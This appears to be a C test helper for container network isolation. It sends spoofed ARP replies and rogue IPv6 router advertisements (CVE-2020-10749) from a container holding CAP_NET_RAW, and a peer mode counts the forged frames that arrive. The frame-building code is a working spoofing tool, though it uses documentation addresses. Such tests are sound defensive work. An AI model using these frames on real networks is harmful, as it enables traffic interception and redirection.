/*
 * Frames that a container with CAP_NET_RAW sends, and a peer that counts them.
 *
 *   program arp COUNT        broadcasts as many false answers of ARP: the gateway is at our address
 *   program router           advertises itself as an IPv6 router (CVE-2020-10749)
 *   program count FILE       says `ready`, counts false answers of ARP until FILE exists, and prints the number
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/ip6.h>
#include <poll.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

/* Of the answers, to tell them from others: 198.51.100.7, which is for documentation. */
#define CLAIMED 0xc6336407u

static int interface_index;
static uint8_t own_address[ETH_ALEN];

static int open_interface(void) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct ifreq request = {.ifr_name = "eth0"};
  if (fd < 0 || ioctl(fd, SIOCGIFINDEX, &request) < 0)
    return -1;
  interface_index = request.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &request) < 0)
    return -1;
  memcpy(own_address, request.ifr_hwaddr.sa_data, ETH_ALEN);
  struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = interface_index};
  return bind(fd, (struct sockaddr *)&address, sizeof address) < 0 ? -1 : fd;
}

static struct ether_header header(const char *to, uint16_t type) {
  struct ether_header head = {.ether_type = htons(type)};
  memcpy(head.ether_dhost, to, ETH_ALEN);
  memcpy(head.ether_shost, own_address, ETH_ALEN);
  return head;
}

static int send_answers(int fd, int count) {
  struct {
    struct ether_header head;
    struct ether_arp arp;
  } __attribute__((packed)) frame = {.head = header("\xff\xff\xff\xff\xff\xff", ETHERTYPE_ARP)};
  frame.arp.ea_hdr = (struct arphdr){htons(ARPHRD_ETHER), htons(ETHERTYPE_IP), ETH_ALEN, 4, htons(ARPOP_REPLY)};
  memcpy(frame.arp.arp_sha, own_address, ETH_ALEN);
  memcpy(frame.arp.arp_tha, "\xff\xff\xff\xff\xff\xff", ETH_ALEN);
  const uint32_t claimed = htonl(CLAIMED);
  memcpy(frame.arp.arp_spa, &claimed, sizeof claimed);
  memcpy(frame.arp.arp_tpa, &claimed, sizeof claimed);
  for (int i = 0; i < count; i++) {
    if (send(fd, &frame, sizeof frame, 0) != sizeof frame)
      return 1;
  }
  puts("sent");
  return 0;
}

static uint16_t checksum(const void *data, size_t size, uint32_t sum) {
  const uint8_t *bytes = data;
  for (size_t i = 0; i + 1 < size; i += 2)
    sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  while (sum >> 16 != 0)
    sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

/* RFC 4861: a router for a day, and a prefix to take an address of. */
struct advertisement {
  struct ether_header head;
  struct ip6_hdr ip;
  struct nd_router_advert advert;
  struct nd_opt_prefix_info prefix;
} __attribute__((packed));

static int advertise(int fd) {
  struct advertisement frame = {.head = header("\x33\x33\x00\x00\x00\x01", ETHERTYPE_IPV6)};
  const uint16_t size = sizeof frame.advert + sizeof frame.prefix;
  frame.ip.ip6_flow = htonl(6u << 28);
  frame.ip.ip6_plen = htons(size);
  frame.ip.ip6_nxt = IPPROTO_ICMPV6;
  frame.ip.ip6_hlim = 255;
  inet_pton(AF_INET6, "fe80::bad", &frame.ip.ip6_src);
  inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);
  frame.advert.nd_ra_type = ND_ROUTER_ADVERT;
  frame.advert.nd_ra_router_lifetime = htons(9000);
  frame.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  frame.prefix.nd_opt_pi_len = 4;
  frame.prefix.nd_opt_pi_prefix_len = 64;
  frame.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  frame.prefix.nd_opt_pi_valid_time = frame.prefix.nd_opt_pi_preferred_time = htonl(86400);
  inet_pton(AF_INET6, "2001:db8:bad::", &frame.prefix.nd_opt_pi_prefix);
  uint32_t sum = size + IPPROTO_ICMPV6;
  const uint8_t *bytes = (const uint8_t *)&frame, *addresses = bytes + offsetof(struct advertisement, ip.ip6_src);
  for (size_t i = 0; i < 2 * sizeof(struct in6_addr); i += 2)
    sum += (uint32_t)addresses[i] << 8 | addresses[i + 1];
  frame.advert.nd_ra_cksum = checksum(bytes + offsetof(struct advertisement, advert), size, sum);
  for (int i = 0; i < 5; i++) {
    if (send(fd, &frame, sizeof frame, 0) != sizeof frame)
      return 1;
  }
  puts("sent");
  return 0;
}

static bool is_false_answer(const uint8_t *frame, ssize_t size) {
  const struct ether_arp *arp = (const void *)(frame + sizeof(struct ether_header));
  const uint32_t claimed = htonl(CLAIMED);
  return size >= (ssize_t)(sizeof(struct ether_header) + sizeof *arp) && frame[12] == 0x08 && frame[13] == 0x06 &&
         memcmp(arp->arp_spa, &claimed, sizeof claimed) == 0;
}

static int count_answers(int fd, const char *end) {
  int count = 0;
  puts("ready");
  /* What is sent before the file is made is here by then: the bridge hands frames on at once. */
  for (bool is_last = false;;) {
    static uint8_t frame[2048] __attribute__((aligned(4)));
    struct pollfd wait = {.fd = fd, .events = POLLIN};
    if (poll(&wait, 1, is_last ? 0 : 50) > 0)
      count += is_false_answer(frame, recv(fd, frame, sizeof frame, 0));
    else if (is_last)
      break;
    is_last = is_last || access(end, F_OK) == 0;
  }
  printf("%d\n", count);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  int fd = open_interface();
  if (fd < 0) {
    perror("eth0");
    return 1;
  }
  if (argc == 3 && strcmp(argv[1], "arp") == 0)
    return send_answers(fd, atoi(argv[2]));
  if (argc == 2 && strcmp(argv[1], "router") == 0)
    return advertise(fd);
  if (argc == 3 && strcmp(argv[1], "count") == 0)
    return count_answers(fd, argv[2]);
  return 2;
}
